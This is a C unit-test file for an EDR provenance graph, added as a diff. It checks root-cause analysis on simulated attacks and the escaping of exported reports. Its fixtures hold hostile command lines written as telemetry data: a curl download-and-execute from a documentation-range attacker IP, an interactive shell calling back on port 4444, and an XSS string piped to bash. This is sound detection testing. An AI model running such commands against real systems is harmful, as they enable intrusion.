@@ -1,0 +1,534 @@
+/* Provenance graph and root-cause analysis on hand-made and synthetic telemetry; exports and their escaping. */
+#include "edr_test.h"
+
+#include "edr/arena.h"
+#include "edr/err.h"
+#include "edr/graph.h"
+#include "edr/identity.h"
+#include "edr/synth.h"
+
+#include <graphviz/cgraph.h>
+#include <jansson.h>
+#include <stdlib.h>
+#include <string.h>
+
+/* ------------------------------------------------------------ a tiny event builder */
+
+typedef struct {
+    edr_arena_t a;
+    Edr__V1__EventBatch b;
+    Edr__V1__SensorInfo si;
+    Edr__V1__Event *ev[256];
+    uint8_t host[16];
+    uint64_t t;
+} bld_t;
+
+static void bld_init(bld_t *x, const char *hostname)
+{
+    memset(x, 0, sizeof(*x));
+    edr_arena_init(&x->a, 1 << 16);
+    edr_host_id_from_name(hostname, x->host);
+    edr__v1__sensor_info__init(&x->si);
+    x->si.host_id.data = x->host;
+    x->si.host_id.len = 16;
+    x->si.hostname = (char *)hostname;
+    edr__v1__event_batch__init(&x->b);
+    x->b.sensor = &x->si;
+    x->b.events = x->ev;
+    x->t = 1767225600ull * 1000000000ull;
+    x->b.base_time_ns = x->t;
+}
+
+static void pid_id(const bld_t *x, uint32_t pid, uint8_t out[16])
+{
+    uint8_t boot[16] = {7};
+    edr_entity_id(x->host, boot, pid, pid * 1000ull, out);
+}
+
+static Edr__V1__Event *ev_new(bld_t *x, uint32_t pid, uint32_t ppid)
+{
+    Edr__V1__Event *e = edr_arena_alloc(&x->a, sizeof(*e));
+    edr__v1__event__init(e);
+    x->t += 1000000; /* 1 ms apart */
+    e->time_offset_ns = (int64_t)(x->t - x->b.base_time_ns);
+    e->pid = e->tid = pid;
+    uint8_t id[16];
+    pid_id(x, pid, id);
+    e->entity_id.data = edr_arena_dup(&x->a, id, 16);
+    e->entity_id.len = 16;
+    if (ppid) {
+        pid_id(x, ppid, id);
+        e->parent_entity_id.data = edr_arena_dup(&x->a, id, 16);
+        e->parent_entity_id.len = 16;
+    }
+    x->ev[x->b.n_events++] = e;
+    return e;
+}
+
+static void ev_start(bld_t *x, uint32_t pid, uint32_t ppid, const char *exe, const char *cmd)
+{
+    Edr__V1__Event *e = ev_new(x, pid, ppid);
+    Edr__V1__ProcessStart *ps = edr_arena_alloc(&x->a, sizeof(*ps));
+    edr__v1__process_start__init(ps);
+    ps->exe = edr_arena_strdup(&x->a, exe);
+    ps->command_line = edr_arena_strdup(&x->a, cmd);
+    ps->start_time_ns = x->t;
+    e->body_case = EDR__V1__EVENT__BODY_PROCESS_START;
+    e->process_start = ps;
+}
+
+static void ev_net(bld_t *x, uint32_t pid, int accept, const uint8_t ip[4], uint32_t port)
+{
+    Edr__V1__Event *e = ev_new(x, pid, 0);
+    Edr__V1__Network *nw = edr_arena_alloc(&x->a, sizeof(*nw));
+    edr__v1__network__init(nw);
+    nw->action = accept ? EDR__V1__NETWORK__ACTION__ACCEPT : EDR__V1__NETWORK__ACTION__CONNECT;
+    nw->protocol = EDR__V1__NETWORK__PROTOCOL__TCP;
+    Edr__V1__Endpoint *l = edr_arena_alloc(&x->a, sizeof(*l)), *r = edr_arena_alloc(&x->a, sizeof(*r));
+    edr__v1__endpoint__init(l);
+    edr__v1__endpoint__init(r);
+    static const uint8_t me[4] = {10, 1, 1, 1};
+    l->ip.data = (uint8_t *)me;
+    l->ip.len = 4;
+    l->port = accept ? port : 50000;
+    r->ip.data = edr_arena_dup(&x->a, ip, 4);
+    r->ip.len = 4;
+    r->port = accept ? 50001 : port;
+    nw->local = l;
+    nw->remote = r;
+    e->body_case = EDR__V1__EVENT__BODY_NETWORK;
+    e->network = nw;
+}
+
+static void ev_write(bld_t *x, uint32_t pid, const char *path)
+{
+    Edr__V1__Event *e = ev_new(x, pid, 0);
+    Edr__V1__FileWrite *w = edr_arena_alloc(&x->a, sizeof(*w));
+    edr__v1__file_write__init(w);
+    w->path = edr_arena_strdup(&x->a, path);
+    e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
+    e->file_write = w;
+}
+
+static uint32_t node_of(bld_t *x, edr_graph_t *g, uint32_t pid)
+{
+    uint8_t id[16];
+    pid_id(x, pid, id);
+    return edr_graph_find_entity(g, id);
+}
+
+static const uint8_t attacker[4] = {203, 0, 113, 66};
+
+/* systemd(1) -> nginx(100) accepts the attacker, fetches, spawns sh(200) -> sh(201) -> id(202);
+ * nginx also serves a normal client and spawns a benign worker (150). */
+static edr_graph_t *service_exploit_graph(bld_t *x)
+{
+    static const uint8_t client[4] = {192, 0, 2, 10};
+    bld_init(x, "web-1");
+    ev_start(x, 1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
+    ev_start(x, 100, 1, "/usr/sbin/nginx", "nginx: master process");
+    for (int i = 0; i < 20; i++)
+        ev_net(x, 100, 1, client, 443);
+    ev_start(x, 150, 100, "/usr/bin/logrotate", "logrotate /etc/logrotate.conf");
+    ev_write(x, 100, "/proc/self/status");
+    ev_net(x, 100, 1, attacker, 443);
+    ev_net(x, 100, 0, attacker, 8888);
+    ev_start(x, 200, 100, "/usr/bin/sh", "sh -c <script>alert(1)</script> | bash");
+    ev_start(x, 201, 200, "/usr/bin/sh", "sh -i");
+    ev_net(x, 201, 0, attacker, 4444);
+    ev_write(x, 201, "/tmp/.x");
+    ev_start(x, 202, 201, "/usr/bin/id", "id");
+    ev_start(x, 151, 100, "/usr/bin/logrotate", "logrotate again");
+    edr_graph_t *g = edr_graph_new();
+    assert_non_null(g);
+    assert_int_equal(edr_graph_add_batch(g, &x->b), 0);
+    return g;
+}
+
+static void test_build_and_find(void **state)
+{
+    (void)state;
+    bld_t x;
+    edr_graph_t *g = service_exploit_graph(&x);
+    assert_true(edr_graph_edge_size() <= 64);
+    assert_true(edr_graph_edge_count(g) >= 10);
+    uint32_t n = edr_graph_find_pid(g, NULL, 202, 0, NULL);
+    assert_int_equal(n, node_of(&x, g, 202));
+    edr_graph_node_info_t in;
+    assert_int_equal(edr_graph_node(g, n, &in), 0);
+    assert_int_equal(in.kind, EDR_NODE_PROCESS);
+    assert_string_equal(in.executable, "/usr/bin/id");
+    assert_string_equal(in.hostname, "web-1");
+    assert_int_equal(in.parent, node_of(&x, g, 201));
+    assert_int_equal(edr_graph_node(g, 1u << 30, &in), EDR_ERANGE);
+    uint8_t hid[16];
+    assert_int_equal(edr_graph_find_host(g, "WEB-1", hid), 0);
+    assert_int_equal(edr_graph_find_host(g, "nope", hid), EDR_ENOENT);
+    edr_graph_destroy(g);
+    edr_arena_close(&x.a);
+}
+
+static void test_service_exploit(void **state)
+{
+    (void)state;
+    bld_t x;
+    edr_graph_t *g = service_exploit_graph(&x);
+    int err = 0;
+    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 202), 0, NULL, &err);
+    assert_non_null(r);
+    assert_int_equal(r->root, node_of(&x, g, 100));
+    assert_int_equal(r->cls, EDR_RCA_INBOUND_CONNECTION);
+    edr_graph_node_info_t in;
+    assert_int_equal(edr_graph_node(g, r->entry, &in), 0);
+    assert_int_equal(in.kind, EDR_NODE_REMOTE);
+    assert_memory_equal(in.ip, attacker, 4);
+    /* chain: root first, then the attack; not the benign siblings nor systemd */
+    assert_int_equal(r->chain[0].node, r->root);
+    assert_true(edr_rca_in_chain(r, node_of(&x, g, 200)));
+    assert_true(edr_rca_in_chain(r, node_of(&x, g, 201)));
+    assert_true(edr_rca_in_chain(r, node_of(&x, g, 202)));
+    assert_false(edr_rca_in_chain(r, node_of(&x, g, 150)));
+    assert_false(edr_rca_in_chain(r, node_of(&x, g, 151)));
+    assert_false(edr_rca_in_chain(r, node_of(&x, g, 1)));
+    for (size_t i = 1; i < r->n_chain; i++)
+        assert_true(r->chain[i].time_ns >= r->chain[i - 1].time_ns || i == 1);
+    /* impact: the dropped file and the callback, not /proc */
+    int tmpx = 0, proc = 0;
+    for (size_t i = 0; i < r->n_impact; i++) {
+        edr_graph_node(g, r->impact[i].node, &in);
+        tmpx += in.kind == EDR_NODE_FILE && !strcmp(in.path, "/tmp/.x");
+        proc += in.kind == EDR_NODE_FILE && !strncmp(in.path, "/proc", 5);
+    }
+    assert_int_equal(tmpx, 1);
+    assert_int_equal(proc, 0);
+    edr_rca_destroy(r);
+    /* a node that does not exist */
+    assert_null(edr_rca_run(g, 1u << 30, 0, NULL, &err));
+    assert_int_equal(err, EDR_ERANGE);
+    edr_graph_destroy(g);
+    edr_arena_close(&x.a);
+}
+
+/* sshd(10) -> bash(20) runs curl(21) that downloads /tmp/p and bash runs it (22) -> whoami (23).
+ * A second file written AFTER it was executed must not count as a download. */
+static void test_download_execute_and_time_order(void **state)
+{
+    (void)state;
+    bld_t x;
+    bld_init(&x, "ws-1");
+    ev_start(&x, 10, 0, "/usr/sbin/sshd", "sshd: alice");
+    ev_start(&x, 20, 10, "/usr/bin/bash", "-bash");
+    ev_start(&x, 21, 20, "/usr/bin/curl", "curl -o /tmp/p http://203.0.113.66/p");
+    ev_net(&x, 21, 0, attacker, 80);
+    ev_write(&x, 21, "/tmp/p");
+    ev_start(&x, 22, 20, "/tmp/p", "/tmp/p");
+    ev_start(&x, 23, 22, "/usr/bin/whoami", "whoami");
+    ev_start(&x, 30, 20, "/tmp/q", "/tmp/q"); /* executed first ... */
+    x.t += 10000000000ull; /* well past the clock-skew tolerance */
+    ev_start(&x, 31, 20, "/usr/bin/curl", "curl -o /tmp/q http://203.0.113.66/q");
+    ev_net(&x, 31, 0, attacker, 80);
+    ev_write(&x, 31, "/tmp/q"); /* ... written later: not its cause */
+    edr_graph_t *g = edr_graph_new();
+    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
+    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 23), 0, NULL, NULL);
+    assert_non_null(r);
+    assert_int_equal(r->cls, EDR_RCA_DOWNLOAD_EXECUTE);
+    edr_graph_node_info_t in;
+    edr_graph_node(g, r->root, &in);
+    assert_int_equal(in.kind, EDR_NODE_FILE);
+    assert_string_equal(in.path, "/tmp/p");
+    assert_int_equal(r->entry, node_of(&x, g, 21));
+    assert_true(edr_rca_in_chain(r, node_of(&x, g, 21)));
+    assert_true(edr_rca_in_chain(r, node_of(&x, g, 22)));
+    assert_false(edr_rca_in_chain(r, node_of(&x, g, 20))); /* the user's shell is not the attack */
+    assert_false(edr_rca_in_chain(r, node_of(&x, g, 10)));
+    edr_rca_destroy(r);
+    r = edr_rca_run(g, node_of(&x, g, 30), 0, NULL, NULL);
+    assert_non_null(r);
+    assert_int_equal(r->cls, EDR_RCA_USER_SESSION);
+    assert_int_equal(r->root, node_of(&x, g, 20));
+    edr_rca_destroy(r);
+    edr_graph_destroy(g);
+    edr_arena_close(&x.a);
+}
+
+/* ------------------------------------------------------------ synthetic attacks */
+
+static int truth_has(const edr_synth_attack_t *at, const edr_graph_node_info_t *in)
+{
+    for (size_t i = 0; i < at->n_truth; i++) {
+        const edr_synth_truth_t *t = &at->truth[i];
+        if (memcmp(t->host_id, in->host_id, 16))
+            continue;
+        if (t->kind == 1 && in->kind == EDR_NODE_PROCESS && !memcmp(t->entity_id, in->entity_id, 16))
+            return 1;
+        if (t->kind == 2 && in->kind == EDR_NODE_FILE && !strcmp(t->path, in->path))
+            return 1;
+        if (t->kind == 3 && in->kind == EDR_NODE_REMOTE && in->ip_len == 4 && !memcmp(t->ip, in->ip, 4))
+            return 1;
+    }
+    return 0;
+}
+
+static void test_synth_attacks(void **state)
+{
+    (void)state;
+    edr_synth_opts_t so = {.hosts = 8, .seed = 42};
+    edr_synth_t *s = edr_synth_new(&so);
+    assert_non_null(s);
+    edr_synth_attack_spec_t sp[] = {
+        {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 0, 0, 3, 2000},
+        {EDR_SYNTH_ATTACK_DOWNLOAD_EXECUTE, 1, 0, 2, 2500},
+        {EDR_SYNTH_ATTACK_LATERAL, 2, 5, 4, 1500},
+        {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 3, 0, 8, 3000},
+    };
+    for (size_t i = 0; i < 4; i++)
+        assert_int_equal(edr_synth_add_attack(s, &sp[i]), (int)i);
+    edr_synth_attack_spec_t busy = {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 0, 0, 2, 0};
+    assert_int_equal(edr_synth_add_attack(s, &busy), EDR_EBUSY);
+    busy.depth = 0;
+    busy.host = 7;
+    assert_int_equal(edr_synth_add_attack(s, &busy), EDR_EINVAL);
+    edr_graph_t *g = edr_graph_new();
+    edr_arena_t a;
+    edr_arena_init(&a, 1 << 20);
+    for (uint32_t h = 0; h < 8; h++) {
+        Edr__V1__EventBatch *b = edr_synth_seed_batch(s, h, &a);
+        assert_non_null(b);
+        assert_int_equal(edr_graph_add_batch(g, b), 0);
+        edr_arena_reset(&a);
+    }
+    for (int round = 0; round < 60; round++)
+        for (uint32_t h = 0; h < 8; h++) {
+            Edr__V1__EventBatch *b = edr_synth_next_batch(s, h, 100, &a);
+            assert_non_null(b);
+            assert_int_equal(edr_graph_add_batch(g, b), 0);
+            edr_arena_reset(&a);
+        }
+    for (size_t i = 0; i < edr_synth_attack_count(s); i++) {
+        const edr_synth_attack_t *at = edr_synth_attack(s, i);
+        assert_true(at->done);
+        uint32_t start = edr_graph_find_entity(g, at->alert.entity_id);
+        assert_int_not_equal(start, EDR_GRAPH_NONE);
+        for (int from_first = 0; from_first < 2; from_first++) {
+            uint32_t st = from_first ? edr_graph_find_entity(g, at->first.entity_id) : start;
+            edr_rca_t *r = edr_rca_run(g, st, 0, NULL, NULL);
+            assert_non_null(r);
+            edr_graph_node_info_t in;
+            edr_graph_node(g, r->root, &in);
+            assert_int_equal((int)r->cls, at->root_class);
+            assert_true(truth_has(at, &in));
+            if (at->root.kind == 1)
+                assert_memory_equal(in.entity_id, at->root.entity_id, 16);
+            else
+                assert_string_equal(in.path, at->root.path);
+            size_t hit = 0;
+            for (size_t k = 0; k < r->n_chain; k++) {
+                edr_graph_node(g, r->chain[k].node, &in);
+                if (truth_has(at, &in))
+                    hit++;
+                else
+                    fail_msg("attack %zu: chain holds a non-attack %s node %s%s pid %u ip %u.%u.%u.%u:%u role %d",
+                             i, in.kind == EDR_NODE_PROCESS ? "process" : in.kind == EDR_NODE_FILE ? "file" : "remote",
+                             in.executable, in.path, in.pid, in.ip[0], in.ip[1], in.ip[2], in.ip[3], in.port,
+                             r->chain[k].role);
+            }
+            /* every truth entity is in the chain (recall 1) */
+            for (size_t k = 0; k < at->n_truth; k++) {
+                int found = 0;
+                for (size_t j = 0; j < r->n_chain && !found; j++) {
+                    edr_graph_node(g, r->chain[j].node, &in);
+                    const edr_synth_truth_t *t = &at->truth[k];
+                    found = !memcmp(t->host_id, in.host_id, 16) &&
+                            ((t->kind == 1 && in.kind == EDR_NODE_PROCESS && !memcmp(t->entity_id, in.entity_id, 16)) ||
+                             (t->kind == 2 && in.kind == EDR_NODE_FILE && !strcmp(t->path, in.path)) ||
+                             (t->kind == 3 && in.kind == EDR_NODE_REMOTE && !memcmp(t->ip, in.ip, 4)));
+                }
+                if (!found)
+                    fail_msg("attack %zu (kind %d) from %s: truth entity %zu (kind %u) missing", i,
+                             at->spec.kind, from_first ? "first" : "alert", k, at->truth[k].kind);
+            }
+            assert_true(hit > 3);
+            edr_rca_destroy(r);
+        }
+    }
+    edr_arena_close(&a);
+    edr_graph_destroy(g);
+    edr_synth_destroy(s);
+}
+
+/* With no attack planned the synthetic stream is unchanged by the attack code. */
+static void test_synth_unchanged(void **state)
+{
+    (void)state;
+    edr_synth_opts_t so = {.hosts = 2, .seed = 9};
+    edr_synth_t *s1 = edr_synth_new(&so), *s2 = edr_synth_new(&so);
+    edr_synth_attack_spec_t sp = {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 1, 0, 2, 1u << 30};
+    assert_int_equal(edr_synth_add_attack(s2, &sp), 0); /* on host 1, and far in the future */
+    edr_arena_t a1, a2;
+    edr_arena_init(&a1, 1 << 16);
+    edr_arena_init(&a2, 1 << 16);
+    for (int i = 0; i < 20; i++) {
+        Edr__V1__EventBatch *b1 = edr_synth_next_batch(s1, (uint32_t)i % 2, 50, &a1);
+        Edr__V1__EventBatch *b2 = edr_synth_next_batch(s2, (uint32_t)i % 2, 50, &a2);
+        size_t l1 = edr__v1__event_batch__get_packed_size(b1), l2 = edr__v1__event_batch__get_packed_size(b2);
+        assert_int_equal(l1, l2);
+        uint8_t *p1 = malloc(l1), *p2 = malloc(l2);
+        edr__v1__event_batch__pack(b1, p1);
+        edr__v1__event_batch__pack(b2, p2);
+        assert_memory_equal(p1, p2, l1);
+        free(p1);
+        free(p2);
+        edr_arena_reset(&a1);
+        edr_arena_reset(&a2);
+    }
+    edr_arena_close(&a1);
+    edr_arena_close(&a2);
+    edr_synth_destroy(s1);
+    edr_synth_destroy(s2);
+}
+
+/* ------------------------------------------------------------ exports */
+
+static char *export_str(edr_graph_t *g, edr_rca_t *r, edr_export_format_t f)
+{
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *m = open_memstream(&buf, &len);
+    const char *acts[] = {"killed process <b>201</b>"};
+    edr_export_opts_t o = {.actions = acts, .n_actions = 1};
+    assert_int_equal(edr_rca_export(g, r, f, &o, m), 0);
+    fclose(m);
+    assert_true(len > 100);
+    return buf;
+}
+
+static void test_exports_escape(void **state)
+{
+    (void)state;
+    bld_t x;
+    edr_graph_t *g = service_exploit_graph(&x);
+    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 202), 0, NULL, NULL);
+    assert_non_null(r);
+    edr_export_format_t f;
+    assert_int_equal(edr_export_format_parse("graphml", &f), 0);
+    assert_int_equal(f, EDR_EXPORT_GRAPHML);
+    assert_int_equal(edr_export_format_parse("pdf", &f), EDR_EINVAL);
+
+    char *dot = export_str(g, r, EDR_EXPORT_DOT);
+    Agraph_t *ag = agmemread(dot);
+    assert_non_null(ag); /* graphviz parses our DOT */
+    assert_true(agnnodes(ag) >= 5);
+    agclose(ag);
+    free(dot);
+
+    char *js = export_str(g, r, EDR_EXPORT_CYJS);
+    json_error_t je;
+    json_t *o = json_loads(js, 0, &je);
+    assert_non_null(o);
+    assert_true(json_array_size(json_object_get(json_object_get(o, "elements"), "nodes")) >= 5);
+    json_decref(o);
+    free(js);
+
+    char *stix = export_str(g, r, EDR_EXPORT_STIX);
+    o = json_loads(stix, 0, &je);
+    assert_non_null(o);
+    assert_string_equal(json_string_value(json_object_get(o, "type")), "bundle");
+    int have_obs = 0, have_ind = 0, have_rel = 0;
+    json_t *objs = json_object_get(o, "objects"), *it;
+    size_t i;
+    json_array_foreach(objs, i, it)
+    {
+        const char *t = json_string_value(json_object_get(it, "type"));
+        have_obs += !strcmp(t, "observed-data");
+        have_ind += !strcmp(t, "indicator");
+        have_rel += !strcmp(t, "relationship");
+        assert_string_equal(json_string_value(json_object_get(it, "spec_version")), "2.1");
+    }
+    assert_int_equal(have_obs, 1);
+    assert_true(have_ind >= 1 && have_rel >= 1);
+    json_decref(o);
+    free(stix);
+
+    char *gml = export_str(g, r, EDR_EXPORT_GRAPHML);
+    assert_null(strstr(gml, "<script"));
+    assert_non_null(strstr(gml, "&lt;script&gt;"));
+    free(gml);
+
+    char *svg = export_str(g, r, EDR_EXPORT_SVG);
+    assert_non_null(strstr(svg, "<svg"));
+    assert_null(strstr(svg, "<script"));
+    free(svg);
+
+    char *html = export_str(g, r, EDR_EXPORT_HTML);
+    assert_non_null(strstr(html, "<svg"));
+    assert_null(strstr(html, "<script"));
+    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
+    assert_non_null(strstr(html, "killed process &lt;b&gt;201&lt;/b&gt;"));
+    assert_null(strstr(html, "src=\"http")); /* nothing to fetch: self-contained */
+    assert_null(strstr(html, "<link"));
+    free(html);
+
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *m = open_memstream(&buf, &len);
+    assert_int_equal(edr_rca_write_json(g, r, m), 0);
+    fclose(m);
+    o = json_loads(buf, 0, &je);
+    assert_non_null(o);
+    json_t *rc = json_object_get(o, "root_cause");
+    assert_string_equal(json_string_value(json_object_get(rc, "class")), "inbound_connection");
+    assert_string_equal(json_string_value(json_object_get(rc, "kind")), "process");
+    assert_int_equal(json_integer_value(json_object_get(rc, "pid")), 100);
+    json_t *chain = json_object_get(o, "chain");
+    assert_true(json_array_size(chain) >= 5);
+    assert_int_equal(json_integer_value(json_object_get(json_array_get(chain, 0), "pid")), 100);
+    assert_non_null(json_object_get(o, "impact"));
+    json_decref(o);
+    free(buf);
+    edr_rca_destroy(r);
+    edr_graph_destroy(g);
+    edr_arena_close(&x.a);
+}
+
+/* Events without a usable actor or with odd fields are skipped, not fatal. */
+static void test_bad_events(void **state)
+{
+    (void)state;
+    bld_t x;
+    bld_init(&x, "odd");
+    Edr__V1__Event *e = ev_new(&x, 5, 0);
+    e->entity_id.len = 3; /* broken id */
+    e = ev_new(&x, 6, 0);
+    e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE; /* body pointer missing */
+    e->file_write = NULL;
+    e = ev_new(&x, 7, 0);
+    e->body_case = EDR__V1__EVENT__BODY_NETWORK;
+    e->network = NULL;
+    ev_start(&x, 8, 8, "", ""); /* its own parent, empty image */
+    edr_graph_t *g = edr_graph_new();
+    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
+    Edr__V1__EventBatch nohost = x.b;
+    nohost.sensor = NULL;
+    assert_int_equal(edr_graph_add_batch(g, &nohost), EDR_EINVAL);
+    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 8), 0, NULL, NULL);
+    assert_non_null(r);
+    assert_int_equal(r->cls, EDR_RCA_UNKNOWN);
+    edr_rca_destroy(r);
+    edr_graph_destroy(g);
+    edr_arena_close(&x.a);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_build_and_find),
+        cmocka_unit_test(test_service_exploit),
+        cmocka_unit_test(test_download_execute_and_time_order),
+        cmocka_unit_test(test_synth_attacks),
+        cmocka_unit_test(test_synth_unchanged),
+        cmocka_unit_test(test_exports_escape),
+        cmocka_unit_test(test_bad_events),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
